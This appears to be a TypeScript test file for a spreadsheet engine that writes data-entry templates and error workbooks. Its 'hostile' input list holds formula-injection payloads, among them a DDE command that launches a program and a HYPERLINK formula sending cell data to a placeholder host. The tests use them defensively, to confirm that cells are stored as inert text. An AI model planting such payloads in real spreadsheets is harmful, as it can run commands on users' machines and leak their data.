import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import ExcelJS from 'exceljs'
import { afterAll, describe, expect, it, vi } from 'vitest'
import { mapColumns } from '@engine/sheets/column-mapping'
import {
  writeErrorWorkbook,
  type ErrorWorkbook,
  type FaultyRow,
  type RowProblem,
  type SourceCell,
} from '@engine/sheets/error-workbook-writer'
import { openSheetFile } from '@engine/sheets/file-reader'
import { defaultSheetLimits } from '@engine/sheets/sheet-limits'
import { templateMarkOf } from '@engine/sheets/template-mark'
import { writeTemplate } from '@engine/sheets/template-writer'
import { loadStandard } from '@engine/standards/standard-loader'
import { readAll, readTexts, refusalOf } from '@test/fixtures/sheets/reading'
import { TemporaryFolder } from '@test/fixtures/sheets/temporary-file'

// Large files are made on machines that do other work too.
vi.setConfig({ testTimeout: 60_000 })

const folder = new TemporaryFolder()
afterAll(() => folder.remove())

const { pack } = loadStandard(
  resolve(import.meta.dirname, '../../../resources/standards/pingxiang-credit/2026.1'),
)
const open = async (path: string) => {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.readFile(path)
  return workbook
}

describe.each(pack.recordTypes.map((spec) => [spec.code, spec] as const))('template of %s', (code, spec) => {
  const path = join(folder.path, `${code}.xlsx`)
  const fields = spec.fields.filter(({ envelope }) => envelope !== true)

  it('is read back by our own reader: every column is recognised, the mark names type and version', async () => {
    await writeTemplate(pack, spec, path)
    const inspection = await (await openSheetFile({ path }, defaultSheetLimits)).inspect()
    expect(templateMarkOf(inspection)).toEqual({
      kind: 'template',
      standard: pack.id,
      version: pack.version,
      recordType: code,
      codes: fields.map((field) => field.code),
      headers: [],
    })
    expect(inspection.warnings).toEqual([])
    const first = inspection.sheets[0]
    const mapping = mapColumns({ file: 'a', rows: first?.firstRows ?? [], spec })
    if (!mapping.ok) throw new Error(mapping.failure.code)
    expect(mapping.value.columns.map(({ field }) => field)).toEqual(fields.map((field) => field.code))
    expect(mapping.value).toMatchObject({ headerRow: 1, missing: [], duplicates: [], coverage: 1 })
  })

  it('is read by exceljs: text and date columns, frozen header, drop-downs from the code lists, help for every field', async () => {
    const workbook = await open(path)
    const [sheet, help] = workbook.worksheets
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    fields.forEach((field, index) => {
      const cell = sheet!.getCell(2, index + 1)
      expect(cell.numFmt, field.code).toMatch(field.type === 'date' ? /yyyy-mm-dd/ : /^@$/)
      expect(sheet!.getCell(1, index + 1).text.startsWith('*'), field.code).toBe(field.required === 'always')
      const isList = field.codeList !== undefined && field.type !== 'multiCode'
      expect(cell.dataValidation?.type, field.code).toBe(isList ? 'list' : 'textLength')
      if (isList) {
        const [, column, from, to] = /\$([A-Z]+)\$(\d+):\$[A-Z]+\$(\d+)/.exec(
          String(cell.dataValidation.formulae[0]),
        )!
        const items = Array.from(
          { length: Number(to) - Number(from) + 1 },
          (_, at) => workbook.getWorksheet('_xinbao')!.getCell(`${column}${Number(from) + at}`).text,
        )
        expect(items).toEqual(pack.codeLists[field.codeList]?.items.map(({ label }) => label))
      }
    })
    expect(help?.rowCount).toBe(fields.length + 2)
    expect(workbook.getWorksheet('_xinbao')?.state).toBe('veryHidden')
  })
})

describe('error workbook', () => {
  const hostile = [
    '=1+1',
    "+cmd|'/c calc'!A1",
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '＝1+1',
    '=HYPERLINK("http://x/?"&A2,"a")',
    '_x0041_',
    '_x000D_',
    '440106199001011234',
    '2026-03-02',
  ]
  const text = (value: string): SourceCell => ({ text: value, kind: 'text' })
  const problem = (part: Partial<RowProblem>): RowProblem => ({
    column: 1,
    field: '文书号',
    value: hostile[1]!,
    severity: 'error',
    message: '文书号不对',
    remedy: '',
    rule: 'a.b',
    ...part,
  })
  const rows: FaultyRow[] = [
    {
      row: 5,
      cells: hostile.map(text),
      problems: [
        problem({ remedy: '改成文书号' }),
        problem({ message: '太长' }),
        problem({
          column: 2,
          field: '内容',
          value: '',
          severity: 'warning',
          message: '少见',
          remedy: '核对',
        }),
        problem({ column: 3, field: '备注', value: '', severity: 'hint', message: '可短些' }),
        problem({ column: null, field: '', value: '', message: '缺少代码', remedy: '补上代码' }),
      ],
    },
    {
      row: 9,
      cells: ['', '乙'].map(text),
      problems: [problem({ column: 0, field: '名称', value: '', message: '必填' })],
    },
  ]
  const headers = hostile.map((_, index) => `列${index + 1}`)
  const path = join(folder.path, 'errors.xlsx')
  const mark = { standard: 'a', version: '2026.1', recordType: 'XZXK_FR' }
  const codes = hostile.map(() => '')
  const workbookOf = (content: Partial<ErrorWorkbook>): ErrorWorkbook => ({
    title: '许可/错误',
    mark,
    headers,
    codes,
    rows,
    ...content,
  })

  it('I1 I2 holds the rows as text: no formula, nothing changed', async () => {
    expect(await writeErrorWorkbook(workbookOf({}), path)).toBe(2)
    expect(await readTexts(path)).toEqual([headers, hostile, ['', '乙']])
    const { rows: read } = await readAll(path)
    expect(read.flatMap(({ cells }) => cells).every((cell) => cell === null || cell.kind === 'text')).toBe(
      true,
    )
    expect(readFileSync(path).includes('<f>')).toBe(false)
    const sheet = (await open(path)).worksheets[0]!
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()))
  })

  it('keeps a number a number, an error an error and a strike a strike: none passes for what somebody typed', async () => {
    const cells: SourceCell[] = [
      { text: '440106199001011234', kind: 'number' },
      { text: '#N/A', kind: 'error' },
      { text: '旧名称', kind: 'text', struck: true },
      { text: '1e999', kind: 'number' },
      { text: '<x>', kind: 'error' },
    ]
    const target = join(folder.path, 'kinds.xlsx')
    await writeErrorWorkbook(workbookOf({ rows: [{ row: 2, cells, problems: [problem({})] }] }), target)
    const read = (await readAll(target)).rows[1]!.cells
    expect(read.map((cell) => cell?.kind)).toEqual(['number', 'error', 'text', 'text', 'error'])
    expect(read[0]?.format).toBe('@')
    expect(read[2]?.struck).toBe(true)
  })

  it('marks the bad cells and says why, in place and in a list', async () => {
    const workbook = await open(path)
    const [sheet, reasons] = workbook.worksheets
    expect(sheet?.name).toBe('许可 错误')
    expect(sheet?.getCell('B2').fill).toMatchObject({ pattern: 'solid', fgColor: { argb: 'FFFFC7CE' } })
    expect(sheet?.getCell('C2').fill).toMatchObject({ pattern: 'solid', fgColor: { argb: 'FFFFEB9C' } })
    expect(sheet?.getCell('D2').fill).not.toMatchObject({ pattern: 'solid' })
    expect(JSON.stringify(sheet?.getCell('B2').note)).toContain('文书号不对')
    expect(JSON.stringify(sheet?.getCell('B2').note)).toContain('改成文书号')
    expect(JSON.stringify(sheet?.getCell('D2').note)).toContain('可短些')
    expect(JSON.stringify(sheet?.getCell('A2').note)).toContain('缺少代码')
    expect(sheet?.getCell('A3').fill).toMatchObject({ fgColor: { argb: 'FFFFC7CE' } })
    const texts: string[][] = []
    reasons?.eachRow((row) => texts.push(Array.from({ length: 9 }, (_, at) => row.getCell(at + 1).text)))
    expect(texts).toEqual([
      ['本表行', '原表行', '列', '字段', '原来的值', '程度', '问题', '怎么改', '规则'],
      ['2', '5', 'B', '文书号', hostile[1], '错误', '文书号不对', '改成文书号', 'a.b'],
      ['2', '5', 'B', '文书号', hostile[1], '错误', '太长', '', 'a.b'],
      ['2', '5', 'C', '内容', '', '提示', '少见', '核对', 'a.b'],
      ['2', '5', 'D', '备注', '', '建议', '可短些', '', 'a.b'],
      ['2', '5', '整行', '', '', '错误', '缺少代码', '补上代码', 'a.b'],
      ['3', '9', 'A', '名称', '', '错误', '必填', '', 'a.b'],
    ])
    expect(workbook.getWorksheet('_xinbao')?.state).toBe('veryHidden')
  })

  it('leaves the old file when it cannot write', async () => {
    const target = join(folder.path, 'old.xlsx')
    writeFileSync(target, 'old')
    mkdirSync(`${target}.part`)
    const refusal = await refusalOf(writeErrorWorkbook(workbookOf({}), target))
    expect(refusal).toMatchObject({ code: 'output.not-writable', params: { file: 'old.xlsx' } })
    expect(readFileSync(target, 'utf8')).toBe('old')
    expect(
      (await refusalOf(writeErrorWorkbook(workbookOf({}), join(folder.path, '没有', 'a.xlsx')))).code,
    ).toBe('output.not-writable')
    expect(existsSync(join(folder.path, '没有'))).toBe(false)
  })
})
